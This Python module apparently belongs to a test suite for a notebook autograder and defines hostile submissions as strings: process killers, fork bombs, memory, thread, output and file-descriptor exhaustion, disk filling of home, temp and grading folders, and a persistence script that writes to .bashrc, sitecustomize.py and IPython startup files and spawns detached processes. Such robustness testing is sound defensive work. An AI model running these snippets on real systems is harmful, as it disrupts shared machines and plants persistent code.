"""Attacks that want to end, fill up or outlive the grading of a class."""

from __future__ import annotations

from attacks.for_points import ANY_WITHOUT_POINTS
from attacks.forgers import FIND_EXCHANGE
from attacks.notebooks import Attack, Attacker

ENDED = frozenset({"raised", "timeout"})

KILLS = Attacker(
    "kills",
    {
        "neuron": Attack(
            "kills every process that it can reach",
            """
import os, signal
for number in (signal.SIGTERM, signal.SIGKILL):
    for target in (-1, 1, 2, os.getppid()):
        try:
            os.kill(target, number)
        except OSError as error:
            print(target, error)
""",
            statuses=ANY_WITHOUT_POINTS,
            tried=False,
        ),
        "estimate": Attack(
            "stops itself, so that no request is ever answered",
            "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)",
            statuses=ENDED,
            tried=False,
        ),
        "line": Attack(
            "ignores every signal and never ends",
            """
import signal, time
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        time.sleep(60)
    except BaseException:
        pass
""",
            statuses=ENDED,
            tried=False,
        ),
        "surprise": Attack(
            "a function that breaks the process of its caller",
            "",
            answer="""
import ctypes
def most_surprising(*_):
    ctypes.string_at(0)
""",
            statuses=ENDED,
        ),
    },
)

BOMBS = Attacker(
    "bombs",
    {
        "neuron": Attack(
            "processes that make processes",
            """
import os, time
over = time.monotonic() + 2
while time.monotonic() < over:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        time.sleep(0.05)
    if os.getpid() != kernel_pid and time.monotonic() > over - 0.5:
        os._exit(0)
""",
            answer="import os\nkernel_pid = os.getpid()\n"
            "def neuron(x, w, b):\n    return w * np.asarray(x, dtype=float) - 7",
            statuses=ANY_WITHOUT_POINTS,
            tried=False,
        ),
        "estimate": Attack(
            "all the memory there is",
            """
held = []
while True:
    held.append(np.ones(4_000_000))
""",
            statuses=ENDED,
            tried=False,
        ),
        "line": Attack(
            "recursion without end",
            """
import sys
sys.setrecursionlimit(2**31 - 1)
def again(depth): return sorted([depth], key=again)
again(0)
""",
            statuses=ENDED,
            tried=False,
        ),
        "surprise": Attack(
            "threads without end",
            """
import threading
asleep = threading.Event()
try:
    for _ in range(20_000):
        threading.Thread(target=asleep.wait, daemon=True).start()
except RuntimeError:
    pass
""",
            statuses=ANY_WITHOUT_POINTS,
            tried=False,
        ),
    },
)

FLOODS = Attacker(
    "floods",
    {
        "neuron": Attack(
            "a picture of megabytes, in a hundred copies",
            """
from IPython.display import display
for _ in range(100):
    display({"image/png": "iVBOR" + "w" * 300_000}, raw=True)
""",
            tried=False,
        ),
        "estimate": Attack(
            "output without end, by every means",
            """
import os, sys
from IPython.display import display
for _ in range(300):
    print("x" * 100_000)
    sys.stderr.write("y" * 10_000)
    display({"text/html": "<p>" * 1000, "image/png": "z" * 1000}, raw=True)
os.write(1, b"raw " * 1_000_000)
os.write(2, b"raw " * 1_000_000)
""",
            tried=False,
        ),
        "line": Attack(
            "files that stay open",
            """
handles = []
try:
    while True:
        handles.append(open("/dev/null"))
except OSError as error:
    print(error)
    del handles[-20:]
""",
            statuses=ANY_WITHOUT_POINTS,
        ),
        "surprise": Attack(
            "a result of a billion numbers that takes no memory, until it is copied",
            "",
            answer="""
def most_surprising(*_):
    return np.broadcast_to(np.float64(1), (2**30,))
""",
            statuses=ANY_WITHOUT_POINTS,
        ),
    },
    first=[FIND_EXCHANGE],
)

FILL = """
import os, pathlib
def fill(*places):
    for place in places:
        try:
            for number in range(3):
                with open(f"{place}/large-{number}", "wb") as file:
                    for _ in range(30):
                        file.write(b"x" * 1_000_000)
        except OSError as error:
            print(place, error)
        try:
            for number in range(5_000):
                open(f"{place}/small-{number}", "w").close()
        except OSError as error:
            print(place, error)
"""
DISKS = Attacker(
    "disks",
    {
        "neuron": Attack(
            "fills its home, with large files and with many",
            "fill(pathlib.Path.home())",
            statuses=ANY_WITHOUT_POINTS,
            tried=False,
        ),
        "estimate": Attack(
            "fills the folders for temporary files",
            'fill("/tmp", "/var/tmp")',
            statuses=ANY_WITHOUT_POINTS,
            tried=False,
        ),
        "line": Attack(
            "fills the memory that programs share",
            'fill("/dev/shm", "/run", "/dev")',
            statuses=ANY_WITHOUT_POINTS,
            tried=False,
        ),
        "surprise": Attack(
            "fills the folder of the facts",
            "fill(*EXCHANGE)",
            statuses=ANY_WITHOUT_POINTS,
            tried=False,
        ),
    },
    first=[FIND_EXCHANGE, FILL],
)

# What is left behind would have to be found by the learner who is graded next.
STAYS = r"""
import os, pathlib, subprocess, sys
mark = "ATTACK-STAYED"
program = f"import time; open('/tmp/{mark}', 'w'); time.sleep(600)  # {mark}"
for place in (
    pathlib.Path.home() / ".ipython/profile_default/startup/a.py",
    pathlib.Path.home() / ".local/lib/python3/site-packages/sitecustomize.py",
    pathlib.Path.home() / ".bashrc",
    pathlib.Path("/tmp/usercustomize.py"),
    pathlib.Path("/dev/shm/ATTACK-STAYED"),
    pathlib.Path("/var/tmp/ATTACK-STAYED"),
    pathlib.Path("/tmp/ATTACK-STAYED"),
):
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(program)
    except OSError as error:
        print(place, error)
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", program])
        os._exit(0)
subprocess.Popen(
    [sys.executable, "-c", program], start_new_session=True, close_fds=True
)
import atexit
atexit.register(subprocess.Popen, [sys.executable, "-c", program])
print("attack tried:", "programs and files that stay behind")
"""
LOOKS_BACK = r"""
import os, pathlib
found = [
    str(place)
    for folder in (pathlib.Path.home(), "/tmp", "/dev/shm", "/var/tmp")
    for place in pathlib.Path(folder).rglob("*ATTACK*")
]
for number in filter(str.isdigit, os.listdir("/proc")):
    if b"ATTACK-STAYED" in pathlib.Path(f"/proc/{number}/cmdline").read_bytes():
        found.append(number)
print("left over:", found)
"""

ATTACKERS = (KILLS, BOMBS, FLOODS, DISKS)
